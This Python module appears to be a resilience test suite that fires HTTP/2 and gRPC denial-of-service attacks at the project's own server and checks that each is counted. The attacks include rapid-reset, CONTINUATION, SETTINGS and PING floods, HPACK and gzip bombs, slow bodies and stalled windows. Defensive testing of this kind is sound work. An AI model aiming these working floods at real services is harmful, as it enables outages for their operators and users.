"""The attacks: what each does to a server, bounded in count and time, and what must be counted of it.

Each gets a function that opens peers (they stay open until the attack has been judged), and returns what it saw.
"""

import dataclasses
import gzip
import random
import struct
import time
from collections.abc import Callable

from peer import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    REFLECT,
    RST_STREAM,
    SETTINGS,
    TRACK,
    WINDOW_UPDATE,
    Ended,
    call_headers,
    frame,
    integer,
    literal,
    message,
    setting,
)

ATTACKS = []
# The time-outs of the server under attack, short so that they pass while one looks.
TIMEOUT = 2
REQUEST_TIMEOUT = 8


@dataclasses.dataclass(frozen=True)
class Attack:
    """What is done to a server, and what holds meanwhile."""

    name: str
    # The incidents of which the server must have counted at least one each.
    counted: tuple
    function: Callable
    # Peers send nothing but headers: they may have the server hold less.
    sends_headers_only: bool = False
    # The server has keys, and the peers have none.
    has_keys: bool = False
    # Conversions with 8,000 bytes of details each that are there before.
    large_records: int = 0
    cpu_seconds: float = 5


def attack(name, *counted, **more):
    """Registers an attack; the parameters are those of ``Attack``."""

    def register(function):
        ATTACKS.append(Attack(name, counted, function, **more))
        return function

    return register


def flood(peer, make, most, batch=100):
    """Sends what `make` makes, again and again, until the server ends it; what became of it."""
    sent = 0
    try:
        while sent < most:
            peer.send(b"".join(make() for _ in range(batch)))
            sent += batch
        peer.listen(0.5)
    except Ended:
        return f"{peer.goodbye or 'closed'} within {sent + batch}"
    except TimeoutError:
        return f"took no more after {sent}"
    return f"served {sent}: {dict(peer.seen)}"


def headers(stream, block, flags=END_HEADERS):
    return frame(HEADERS, flags, stream, block)


BIDI, UNARY = call_headers(REFLECT), call_headers(TRACK)
# Requests of reflection: `list_services: ""`, and `file_containing_symbol`, whose answer is many times as large.
LIST_SERVICES = message(b"\x3a\x00")
SYMBOL = b"conversion.v1.ConversionService"
DESCRIBE = message(b"\x22" + bytes([len(SYMBOL)]) + SYMBOL)


@attack("rapid reset", "tooManyResets")
def rapid_reset(connect):
    peer = connect()

    def make():
        stream = peer.next_stream()
        return headers(stream, BIDI) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))

    return flood(peer, make, 20_000)


@attack("provoked resets", "tooManyResets")
def provoked_resets(connect):
    peer = connect()

    def make():
        stream = peer.next_stream()
        return headers(stream, BIDI) + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7FFF_FFFF))

    return flood(peer, make, 20_000)


@attack("CONTINUATION flood", "tooManyContinuations")
def continuations(connect):
    peer = connect()
    peer.send(headers(peer.next_stream(), UNARY, flags=0))
    return flood(peer, lambda: frame(CONTINUATION, 0, 1, literal("x", "y" * 1000)), 10_000)


@attack("SETTINGS flood", "tooManyEmptyFrames")
def settings_flood(connect):
    return flood(connect(), lambda: frame(SETTINGS), 100_000)


@attack("SETTINGS of 2,730 entries", "tooManySettings")
def long_settings(connect):
    return flood(connect(), lambda: frame(SETTINGS, payload=setting(4, 65_535) * 2730), 100, batch=1)


@attack("PING flood", "tooManyPings")
def ping_flood(connect):
    return flood(connect(), lambda: frame(PING, payload=bytes(8)), 100_000)


@attack("empty DATA flood", "tooManyEmptyFrames")
def empty_data(connect):
    peer = connect()
    stream = peer.open(REFLECT)
    return flood(peer, lambda: frame(DATA, 0, stream), 100_000)


@attack("PRIORITY flood", "tooManyEmptyFrames")
def priorities(connect):
    peer = connect()
    return flood(peer, lambda: frame(PRIORITY, 0, random.randrange(1, 1 << 20, 2), bytes([0, 0, 0, 0, 16])), 100_000)


@attack("HPACK bombs", "headerListReset")
def header_bombs(connect):
    """Each byte stands for a header of 4,000 bytes: half a gigabyte a block."""
    peer = connect()
    peer.send(headers(peer.next_stream(), UNARY + literal("x", "a" * 4000, 0x40), END_HEADERS | END_STREAM))

    def make():
        stream, block = peer.next_stream(), integer(62, 7, 0x80) * 16_000
        parts = [frame(CONTINUATION, END_HEADERS if part == 7 else 0, stream, block) for part in range(8)]
        return headers(stream, UNARY, flags=0) + b"".join(parts)

    return flood(peer, make, 100, batch=1)


@attack("header lists too large", "headerListTooLarge")
def large_headers(connect):
    peer = connect()
    value = UNARY + literal("x", "v" * 15_000) + b"".join(literal("y", "v" * 100) for _ in range(20))

    def make():
        stream, first = peer.next_stream(), value[:16_000]
        return headers(stream, first, END_STREAM) + frame(CONTINUATION, END_HEADERS, stream, value[16_000:])

    return flood(peer, make, 500, batch=10)


@attack("zero windows", "answerTimeout")
def zero_windows(connect):
    peer = connect(settings=setting(4, 0))
    for _ in range(128):
        peer.send(frame(DATA, END_STREAM, peer.open(TRACK), message(b"\xff")))
        stream = peer.open(REFLECT)
        peer.send(frame(DATA, END_STREAM, stream, LIST_SERVICES * 20))
    peer.listen(TIMEOUT * 1.25 + 1)
    return str(dict(peer.seen))


@attack("windows of one byte")
def one_byte_windows(connect):
    peer = connect(settings=setting(4, 0))
    streams = [peer.open(REFLECT) for _ in range(100)]
    for stream in streams:
        peer.send(frame(DATA, 0, stream, LIST_SERVICES * 20))
    one = b"".join(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1)) for stream in streams)
    for _ in range(200):
        peer.send(one)
        peer.listen(0.005)
    return f"{peer.seen['bytes']} bytes for {200 * len(streams)} windows"


@attack("a socket that is not read", "writeTimeout")
def unread_socket(connect):
    peer = connect(settings=setting(4, 0x7FFF_FFFF), receive_buffer=4096)
    peer.reads = False
    peer.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7000_0000)))
    streams = [peer.open(REFLECT) for _ in range(100)]
    try:
        for _ in range(50):
            for stream in streams:
                peer.send(frame(DATA, 0, stream, DESCRIBE * 20))
    except (Ended, TimeoutError) as end:
        return f"{type(end).__name__} while sending"
    time.sleep(TIMEOUT + 1)
    try:
        peer.send(frame(PING, ACK, 0, bytes(8)) * 2)
        peer.listen(1)
    except Ended:
        return "closed"
    return "still open"


@attack("half-open prefaces", "prefaceTimeout")
def half_prefaces(connect):
    peers = [connect(greets=False) for _ in range(300)]
    for number, peer in enumerate(peers):
        peer.send(PREFACE[: number % 25])
    time.sleep(TIMEOUT + 0.5)
    closed = 0
    for peer in peers:
        try:
            peer.listen(0.01)
        except Ended:
            closed += 1
    return f"{closed} of {len(peers)} closed"


@attack("connections without a call", "firstRequestTimeout")
def no_calls(connect):
    peers = [connect() for _ in range(100)]
    time.sleep(TIMEOUT + 2)
    closed = 0
    for peer in peers:
        try:
            peer.listen(0.05)
        except Ended:
            closed += 1
    return f"{closed} of {len(peers)} sent away"


@attack("slow bodies", "requestTimeout")
def slow_bodies(connect):
    peer = connect()
    streams = [peer.open(TRACK) for _ in range(128)]
    for stream in streams:
        peer.send(frame(DATA, 0, stream, struct.pack(">BI", 0, 1000)))
    for _ in range(int((REQUEST_TIMEOUT * 1.25 + 1) / 0.1)):
        for stream in streams:
            peer.send(frame(DATA, 0, stream, b"x"))
        peer.listen(0.1)
    return str(dict(peer.seen))


@attack("more streams than allowed", "streamRefused")
def many_streams(connect):
    peer = connect()
    return flood(peer, lambda: headers(peer.next_stream(), BIDI), 1000)


@attack("streams that end in a message")
def cut_messages(connect):
    peer = connect()

    def make():
        stream = peer.next_stream()
        return headers(stream, UNARY) + frame(DATA, END_STREAM, stream, struct.pack(">BI", 0, 1000) + b"x")

    return flood(peer, make, 5000, batch=50)


@attack("lengths that lie", "messageTooLarge", "tooManyResets")
def lies(connect):
    peer = connect()

    def make():
        first, second = peer.next_stream(), peer.next_stream()
        return (
            headers(first, UNARY)
            + frame(DATA, END_STREAM, first, struct.pack(">BI", 0, 0xFFFF_FFFF))
            + headers(second, UNARY + literal("content-length", "7"))
            + frame(DATA, END_STREAM, second, message(b"x"))
        )

    return flood(peer, make, 3000, batch=20)


def fill(peer, streams, payload):
    """Sends the payload on all streams at once, as far as flow control lets it; the bytes that went."""
    sent = dict.fromkeys(streams, 0)
    quiet = 0
    while quiet < 5:
        progress = 0
        for stream in streams:
            count = peer.send_data(stream, payload[sent[stream] :][:16_384])
            sent[stream] += count
            progress += count
        quiet = 0 if progress else quiet + 1
        peer.listen(0.0 if progress else 0.1)
    return sum(sent.values())


@attack("large messages in parts", "largeMessageDelayed")
def large_parts(connect):
    total = 0
    for _ in range(2):
        peer = connect()
        streams = [peer.open(TRACK) for _ in range(128)]
        total += fill(peer, streams, message(bytes(4 << 20))[:-1])
    return f"{total >> 20} MiB of 1,024 taken on 2 connections"


@attack("small messages unread")
def small_messages(connect):
    """The handlers wait for answers to be taken, and read nothing meanwhile."""
    peer = connect(settings=setting(4, 0))
    streams = [peer.open(REFLECT) for _ in range(128)]
    total = fill(peer, streams, LIST_SERVICES * 100_000)
    return f"{total >> 20} MiB taken, {dict(peer.seen)}"


@attack("gzip bombs", "messageTooLarge")
def gzip_bombs(connect):
    peer = connect()
    bomb = message(gzip.compress(bytes(100 << 20), 9), flag=1)
    block = call_headers(TRACK, ("grpc-encoding", "gzip"))
    for _ in range(50):
        stream = peer.next_stream()
        peer.send(headers(stream, block))
        fill(peer, [stream], bomb)
        peer.send(frame(DATA, END_STREAM, stream))
    return str(dict(peer.seen))


@attack("garbage", "protocolError")
def garbage(connect):
    ended = 0
    for _ in range(200):
        peer = connect()
        try:
            peer.send(b"".join(frame(random.randrange(10), random.randrange(256), random.randrange(64),
                                     random.randbytes(random.randrange(64))) for _ in range(50)))
            peer.listen(0.2)
        except Ended:
            ended += 1
    return f"{ended} of 200 ended"


@attack("connections that come and go")
def churn(connect):
    for _ in range(2000):
        connect().close()
    return "2,000 made"
